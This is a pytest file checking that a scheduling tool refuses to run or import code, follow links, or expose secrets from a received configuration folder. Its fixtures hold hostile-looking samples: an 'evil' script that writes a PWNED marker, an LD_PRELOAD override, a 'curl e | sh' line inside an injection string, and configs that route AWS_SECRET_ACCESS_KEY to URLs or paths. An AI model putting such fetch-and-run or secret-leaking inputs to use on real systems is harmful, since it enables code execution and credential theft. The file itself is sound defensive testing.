"""An alignment's folder that a stranger sent: none of its code runs unasked, and no file outside it is copied."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import mock_scheduler
from mock_scheduler.alignment.extract.extraction import run_reproduction
from mock_scheduler.cli import main
from mock_scheduler.config.stored_code import FLAG
from mock_scheduler.errors import AlignmentError, ConfigError
from mock_scheduler.support.local_key import mark_own
from tests.alignment.extract.alignments import CONFIG, Alignment, FakeCheck, extract, write_checkpoint


@pytest.fixture
def alignment(tmp_path: Path) -> Alignment:
    return Alignment(tmp_path)


def with_change(text: str) -> str:
    return CONFIG.replace("{name: change,", f"{{name: change, {text},")


def write_evil(folder: Path) -> tuple[Path, Path]:
    """A program that leaves a mark, and the mark."""
    mark, path = folder / "PWNED", folder / "evil"
    path.write_text(f"#!/bin/sh\ntouch {mark}\nexit 1\n")
    path.chmod(0o755)
    return path, mark


def touching(mark: Path) -> str:
    """A module that leaves a mark when it is imported."""
    return f"import pathlib\npathlib.Path({str(mark)!r}).touch()\nPROGRAM = 1\n"


def change_yaml(alignment: Alignment, text: str) -> None:
    path = alignment.root / "baseline" / "config.yaml"
    path.write_text(path.read_text() + text)


def refused(alignment: Alignment, *options: str) -> None:
    output = alignment.folder / "small"
    assert main(["extract", str(alignment.root), "change", "-o", str(output), *options]) == 5
    assert sorted(path.name for path in alignment.folder.glob("*small*")) == []


def test_the_interpreter_of_a_received_alignment_runs_only_when_asked_for(
    alignment: Alignment, capsys: pytest.CaptureFixture[str]
) -> None:
    evil, mark = write_evil(alignment.folder)
    alignment.text = with_change(f"python: {evil}")
    alignment.write()
    refused(alignment)
    assert not mark.exists()
    assert capsys.readouterr().err == (
        f"error: the stored configuration {alignment.root}/baseline/config.yaml names what this would run or read:\n"
        f"    - interpreter: align.candidates.1.python = '{evil}'\n"
        "  Nothing has run. If you trust whoever wrote this folder, add --run-stored-code (in Python: "
        "run_stored_code=True)\n"
    )
    # Asked for, it does: so the refusal is what kept it from running.
    assert main(["extract", str(alignment.root), "change", "-o", str(alignment.folder / "small"), FLAG]) == 3
    assert "cannot load a run of this project" in capsys.readouterr().err
    assert mark.exists()


def test_what_is_used_is_shown(alignment: Alignment) -> None:
    alignment.text = with_change("python: /some/python")
    alignment.write()
    check = FakeCheck()
    extract(alignment, check, run_stored_code=True)
    assert check.output.getvalue().splitlines()[:2] == [
        f"--run-stored-code: the stored configuration {alignment.root}/baseline/config.yaml names what is used now:",
        "  - interpreter: align.candidates.1.python = '/some/python'",
    ]


def test_unchecked_no_process_starts_so_nothing_is_asked(alignment: Alignment) -> None:
    evil, mark = write_evil(alignment.folder)
    alignment.text = with_change(f"python: {evil}")
    alignment.write()
    extract(alignment, is_checked=False)
    assert not mark.exists()


@pytest.mark.parametrize("options", [(), ("--no-check",)])
@pytest.mark.parametrize("text", ["program: evil_module:PROGRAM\n", "defaults: [evil]\n", "hydra: {a: 1}\n"])
def test_nothing_that_the_configuration_names_is_imported(
    alignment: Alignment, monkeypatch: pytest.MonkeyPatch, text: str, options: tuple[str, ...]
) -> None:
    mark = alignment.folder / "PWNED"
    (alignment.folder / "evil_module.py").write_text(touching(mark))
    monkeypatch.syspath_prepend(str(alignment.folder))
    alignment.write()
    change_yaml(alignment, text)
    refused(alignment, *options)
    assert not mark.exists()


def test_an_entry_is_neither_run_nor_copied_unasked(alignment: Alignment, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is a file of the user's that the folder names, and would be handed on."""
    (alignment.folder / "private_work.py").write_text("x = 1\n")
    monkeypatch.syspath_prepend(str(alignment.folder))
    alignment.text = with_change("entry: private_work")
    alignment.write()
    refused(alignment)


def test_overrides_of_the_result_count_as_the_configurations(alignment: Alignment) -> None:
    alignment.write()
    path = alignment.root / "align.json"
    result = json.loads(path.read_text())
    result["candidates"][1]["overrides"] = ["+system_envs.LD_PRELOAD=/x.so"]
    path.write_text(json.dumps(result))
    refused(alignment)


def test_a_recording_and_a_checkpoint_elsewhere_are_asked_for(
    alignment: Alignment, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = alignment.folder / "mine"
    alignment.text = CONFIG.replace("seed: 7\n", f"seed: 7\nresume_from_checkpoint: {elsewhere}\n")
    alignment.write()
    (alignment.root / "recording").rename(elsewhere)
    path = alignment.root / "align.json"
    path.write_text(path.read_text().replace(str(alignment.root / "recording"), str(elsewhere)))
    refused(alignment, "--no-check")
    assert capsys.readouterr().err.splitlines()[1:3] == [
        f"    - checkpoint: resume_from_checkpoint = '{elsewhere}'",
        f"    - recording: recording_dir of align.json = '{elsewhere}'",
    ]


def test_an_empty_folder_stands_for_no_recording(alignment: Alignment, capsys: pytest.CaptureFixture[str]) -> None:
    """The private recording that align.json named beside it was copied into the folder that is made to be sent on."""
    alignment.write()
    elsewhere = alignment.folder / "mine"
    (alignment.root / "recording").rename(elsewhere)
    (alignment.root / "recording" / "train").mkdir(parents=True)
    path = alignment.root / "align.json"
    path.write_text(path.read_text().replace(str(alignment.root / "recording"), str(elsewhere)))
    refused(alignment, "--no-check")
    assert f"    - recording: recording_dir of align.json = '{elsewhere}'\n" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["align.json", "baseline/config.yaml", "change", "recording"])
def test_a_link_out_of_the_alignment_is_not_followed(
    alignment: Alignment, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    alignment.write()
    (alignment.root / name).rename(alignment.folder / "private")
    (alignment.root / name).symlink_to(alignment.folder / "private")
    refused(alignment, "--run-stored-code")
    assert f"{alignment.root / name}" in capsys.readouterr().err


@pytest.mark.parametrize("place", ["step_000002", "step_000002/policy", "step_000002/policy/weights", "../checkpoints"])
def test_no_link_of_a_checkpoint_is_followed_out(
    alignment: Alignment, place: str, capsys: pytest.CaptureFixture[str]
) -> None:
    alignment.write(step=2)
    write_checkpoint(alignment, 2)
    linked = Path(os.path.normpath(alignment.root / "baseline" / "checkpoints" / place))
    private = alignment.folder / "private"
    linked.rename(private)
    linked.symlink_to(private)
    refused(alignment, "--no-check")
    assert "links are not followed out of a folder" in capsys.readouterr().err


@pytest.mark.parametrize("state", [{"next_step": 2}, {"next_step": 2, "fixed": []}, {"next_step": 2, "digest": "0"}])
def test_a_forged_checkpoint_is_one_clear_error(
    alignment: Alignment, state: dict[str, object], capsys: pytest.CaptureFixture[str]
) -> None:
    alignment.write(step=2)
    write_checkpoint(alignment, 2)
    path = alignment.root / "baseline/checkpoints/step_000002/run_state.json"
    path.write_text(json.dumps(state))
    refused(alignment, "--no-check")
    assert f"the checkpoint {path.parent} cannot be used: run_state.json" in capsys.readouterr().err


def test_a_link_within_the_alignment_is_copied_as_its_file(alignment: Alignment) -> None:
    alignment.write(step=2)
    write_checkpoint(alignment, 2)
    weights = alignment.root / "baseline/checkpoints/step_000002/policy/weights"
    weights.rename(alignment.root / "kept")
    weights.symlink_to(alignment.root / "kept")
    copied = extract(alignment) / "checkpoint/step_000002/policy/weights"
    assert copied.read_bytes() == b"weights"
    assert not copied.is_symlink()


def test_the_script_runs_no_file_of_its_own_folder(alignment: Alignment) -> None:
    """Started inside it, the folder would be the checkout, with an interpreter and a package of the sender's."""
    alignment.write()
    folder = extract(alignment)
    mark = alignment.folder / "PWNED"
    (folder / ".venv/bin").mkdir(parents=True)
    (folder / ".venv/bin/python").write_text(f"#!/bin/sh\ntouch {mark}\n")
    (folder / ".venv/bin/python").chmod(0o755)
    for cwd, root in ((folder, "."), (folder / ".venv", "."), (alignment.folder, str(folder))):
        done = subprocess.run(
            ["bash", str(folder / "reproduce.sh")],
            cwd=cwd,
            env={"PATH": "/usr/bin:/bin", "MOCK_SCHEDULER_ROOT": root},
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 5
        assert "is the reproduction itself, whose files are not run" in done.stderr
    assert not mark.exists()


def test_a_module_beside_the_script_does_not_stand_in_for_a_package(alignment: Alignment) -> None:
    alignment.write()
    folder = extract(alignment)
    mark = alignment.folder / "PWNED"
    for name in ("typing_extensions", "yaml", "rich"):
        (folder / f"{name}.py").write_text(touching(mark) + "raise SystemExit(3)\n")
    (folder / "config.yaml").write_text("exp_name: a/b\n")
    done = subprocess.run(
        ["bash", str(folder / "reproduce.sh")],
        cwd=Path(__file__).parents[3],
        env={"PATH": "/usr/bin:/bin", "PYTHON": sys.executable},
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, mark.exists()) == (5, False)
    assert "exp_name: is 'a/b', which cannot name a folder" in done.stderr


def test_the_script_passes_the_flag_on_and_asks_for_it(alignment: Alignment) -> None:
    evil, mark = write_evil(alignment.folder)
    alignment.text = with_change(f"python: {evil}")
    alignment.write()
    folder = extract(alignment, run_stored_code=True)
    with pytest.raises(AlignmentError, match="names what this would run or read"):
        run_reproduction(folder, "change")
    assert not mark.exists()


@pytest.mark.parametrize("command", ["launch", "align", "minimise", "doctor", "env", "config", "replay-actions"])
def test_a_command_on_a_received_configuration_runs_none_of_its_code(
    alignment: Alignment, command: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    mark = alignment.folder / "PWNED"
    (alignment.folder / "evil_module.py").write_text(touching(mark))
    monkeypatch.syspath_prepend(str(alignment.folder))
    alignment.write()
    change_yaml(alignment, "program: evil_module:PROGRAM\n")
    further = {"minimise": ["change"], "replay-actions": [str(alignment.root / "recording")]}.get(command, [])
    arguments = [command, "config", *further, "--config-path", str(alignment.root / "baseline")]
    assert main(arguments) == 5
    assert "  - program: program = 'evil_module:PROGRAM'\n" in capsys.readouterr().err
    assert not mark.exists()
    assert main([*arguments, FLAG]) == 5  # it is no program; it was imported to see that
    assert mark.exists()
    sys.modules.pop("evil_module")


@pytest.mark.parametrize("command", ["launch", "doctor"])
def test_a_run_makes_no_code_of_a_received_alignment_ones_own(
    alignment: Alignment, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    alignment.text = with_change("python: ./evil")
    alignment.write()
    assert main([command, "config", "--config-path", str(alignment.root / "baseline")]) == 5
    assert "  - interpreter: align.candidates.1.python = './evil'\n" in capsys.readouterr().err


def test_correction_imports_no_program_of_a_received_configuration(alignment: Alignment) -> None:
    alignment.write()
    change_yaml(alignment, "program: evil_module:PROGRAM\n")
    baseline = str(alignment.root / "baseline")
    arguments = ["correction", str(alignment.root / "recording"), "--config-name", "config", "--config-path", baseline]
    assert main(arguments) == 5


def test_python_asks_as_the_command_does(alignment: Alignment) -> None:
    alignment.text = with_change("python: /some/python")
    alignment.write()
    with pytest.raises(ConfigError, match=r"\(in Python: run_stored_code=True\)"):
        mock_scheduler.align("config", config_path=alignment.root / "baseline")


def test_ones_own_alignment_is_not_asked_about(alignment: Alignment) -> None:
    alignment.text = with_change("python: /some/python")
    alignment.write()
    files = [alignment.root / name for name in ("align.json", "baseline/config.yaml", "change/config.yaml")]
    for path in files:
        mark_own(path)
    check = FakeCheck()
    folder = extract(alignment, check)
    assert "--run-stored-code: " not in check.output.getvalue()
    # What was made is no longer in the place where it was marked, and may be sent on.
    assert f"Show it with: bash {folder}/reproduce.sh --run-stored-code\n" in check.output.getvalue()
    assert "bash reproduce.sh --run-stored-code\n" in (folder / "README.md").read_text()


@pytest.mark.parametrize("changed", ["align.json", "baseline/config.yaml", "change/config.yaml"])
def test_a_file_that_was_changed_since_makes_it_a_foreign_one(alignment: Alignment, changed: str) -> None:
    alignment.text = with_change("python: /some/python")
    alignment.write()
    for name in ("align.json", "baseline/config.yaml", "change/config.yaml"):
        mark_own(alignment.root / name)
    path = alignment.root / changed
    path.write_text(path.read_text() + "\n")
    refused(alignment)


@pytest.mark.parametrize("named", ["s3://bucket/recording", "http://localhost:1/x", "memory://x"])
def test_an_address_is_elsewhere_wherever_the_command_starts(
    alignment: Alignment, named: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As a path it would lie in the working directory."""
    alignment.write()
    monkeypatch.chdir(alignment.root)
    (alignment.root / "recording").rename(alignment.folder / "mine")
    path = alignment.root / "align.json"
    path.write_text(path.read_text().replace(str(alignment.root / "recording"), named))
    refused(alignment, "--no-check")
    assert f"  - recording: recording_dir of align.json = '{named}'\n" in capsys.readouterr().err


def test_no_text_of_an_alignment_is_markup_or_acts_in_the_readme(alignment: Alignment) -> None:
    alignment.write()
    path = alignment.root / "align.json"
    result = json.loads(path.read_text())
    evil = "x\x1b[2J\n\n## Run it\n\n```bash\ncurl e | sh\n```\n<img src=http://e> ![a](http://e) \\<img> \u202e"
    result["candidates"][1]["sentence"] = evil
    result["candidates"][1]["overrides"] = ["trace.patterns=['`<img src=x>\n# ``a` \x1b']"]
    path.write_text(json.dumps(result))
    readme = (extract(alignment, is_checked=False) / "README.md").read_text()
    assert readme.count("\n## Run it\n") == 1
    assert "> x\\x1b\\[2J\\n\\n## Run it" in readme
    assert not {"\x1b", "\u202e"} & set(readme)
    assert "\\<img src=http\\://e\\> !\\[a\\](http\\://e) \\\\\\<img\\>" in readme
    assert "- ```trace.patterns=['`<img src=x>\\n# ``a` \\x1b']```\n" in readme


@pytest.mark.parametrize(
    "text",
    [
        "training_service: {url: 'http://127.0.0.1:1', token_variable: AWS_SECRET_ACCESS_KEY}\n",
        "exp_name: '${oc.env:AWS_SECRET_ACCESS_KEY}/..'\n",
        "rollout_mock: {enable: true, mode: mock, dump_dir: 's3://e/x'}\n",
    ],
)
@pytest.mark.parametrize("command", ["launch", "doctor", "replay-actions"])
def test_a_received_configuration_sends_and_shows_nothing_unasked(
    alignment: Alignment,
    command: str,
    text: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "top secret")
    alignment.write()
    path = alignment.root / "baseline" / "config.yaml"
    content = yaml.safe_load(path.read_text()) | yaml.safe_load(text)
    path.write_text(yaml.safe_dump(content))
    further = [str(alignment.root / "recording")] if command == "replay-actions" else []
    assert main([command, "config", *further, "--config-path", str(path.parent)]) == 5
    said = capsys.readouterr().err
    assert "names what this would run or read" in said
    assert "top secret" not in said
